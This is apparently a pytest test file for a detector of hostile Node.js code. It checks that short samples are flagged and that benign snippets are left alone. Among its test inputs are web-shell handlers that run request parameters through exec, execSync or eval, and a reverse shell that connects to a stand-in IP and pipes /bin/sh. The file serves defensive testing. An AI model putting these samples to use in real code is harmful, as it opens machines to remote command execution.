from __future__ import annotations

import pytest

from pratique.content.base import Content
from pratique.content.identify import identify
from pratique.content.mark import Mark
from pratique.content.script.node import ANALYSER


def seen(text, name="a.js"):
    content = Content(text.encode(), f"/srv/{name}", identify(text.encode(), name))
    found = [one for one in ANALYSER.find(content) if isinstance(one, Mark)]
    return {one.mark for one in found if one.confidence >= 0.7}


@pytest.mark.parametrize(
    ("mark", "text"),
    [
        (
            "page-runs-request",
            (
                'const http = require("http"), {exec} = require("child_process");\n'
                "http.createServer((q, r) => { exec(url.parse(q.url, true).query.c); });"
            ),
        ),
        (
            "page-runs-request",
            (
                'const a = require("express")(); const cp = require("child_process");\n'
                'a.get("/x", (req, res) => { res.send(cp.execSync(req.query.c)); });'
            ),
        ),
        (
            "page-runs-request",
            (
                'const a = require("express")();\na.post("/e", (req, res) => { eval(req'
                ".body.code); });"
            ),
        ),
        (
            "script-connects-back",
            (
                'var cp = require("child_process"), net = require("net");\n'
                'var c = new net.Socket(); c.connect(443, "198.51.100.1", function () {\n'
                'var s = cp.spawn("/bin/sh", []); c.pipe(s.stdin); s.stdout.pipe(c); });'
            ),
        ),
    ],
)
def test_sees(mark, text):
    assert mark in seen(text)


@pytest.mark.parametrize(
    ("name", "text"),
    [
        (
            "a.js",
            (
                'const http = require("http"), {execFile} = require("child_process");\n'
                'http.createServer((req, res) => { execFile("uptime"); res.end(req.url); });'
            ),
        ),
        ("a.js", 'const {exec} = require("child_process");\nexec("git " + process.argv[2]);'),
        # An example in a comment.
        (
            "a.js",
            (
                'import "net"; import "child_process";\n/* var g = spawn("sh"); new Socket()\n'
                " s.stdout.on('data', x => { g.stdin.write(x) }) */"
            ),
        ),
        ("a.html", "child_process"),
    ],
)
def test_leaves_alone(name, text):
    assert seen(text, name) == set()
